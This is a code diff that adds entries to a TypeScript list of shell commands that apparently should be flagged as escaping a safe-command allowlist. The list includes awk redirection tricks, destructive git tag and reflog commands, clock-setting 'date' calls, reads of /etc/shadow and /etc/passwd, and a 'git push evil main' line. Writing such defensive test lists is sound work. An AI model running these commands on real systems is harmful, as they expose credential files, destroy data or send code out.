@@ -91,6 +91,7 @@ export const escapingCommands: Record<string, readonly string[]> = {
     "sed p *",
   ],
   awk: [
+    'awk \'BEGIN{if(0)return /"/;print "x" > "out"}#"\'',
     "awk -v c=./tool '/[^]/]\"/{system(c)}#\"' a",
     "awk 'BEGIN { ARGV[1] = \"/etc/passwd\"; ARGC = 2 } 1'",
     "awk 'BEGIN { system (\"./tool\") }'",
@@ -182,6 +183,11 @@ export const escapingCommands: Record<string, readonly string[]> = {
     "env --split-string='./tool'",
   ],
   git: [
+    "git branch --contains HEAD name",
+    "git reflog expire --all",
+    "git tag -l -d v1",
+    "git tag -l -- -d v1",
+    "git stash list -p --output=out",
     "git log --format=%G?",
     "git for-each-ref --format='%(signature)'",
     "git push evil main",
@@ -590,7 +596,15 @@ export const escapingCommands: Record<string, readonly string[]> = {
   strings: ["strings @args", "strings /etc/shadow"],
   diff: ["diff a /etc/shadow", "diff --recursive . ~"],
   wc: ["wc --files0-from=/etc/shadow", "wc -c /etc/shadow"],
-  date: ["date -f /etc/shadow", "date --file=/etc/shadow", "date -s 2020-01-01", "date --set=now", "date 010100002020"],
+  date: [
+    "date -Is -s 2020-01-01",
+    "date -us 2020-01-01",
+    "date -f /etc/shadow",
+    "date --file=/etc/shadow",
+    "date -s 2020-01-01",
+    "date --set=now",
+    "date 010100002020",
+  ],
   file: ["file -C -m x", "file -f /etc/shadow", "file -m ~/x a"],
   ls: ["ls /root", "ls ~", "ls -la /etc", "ls > out"],
   jq: [
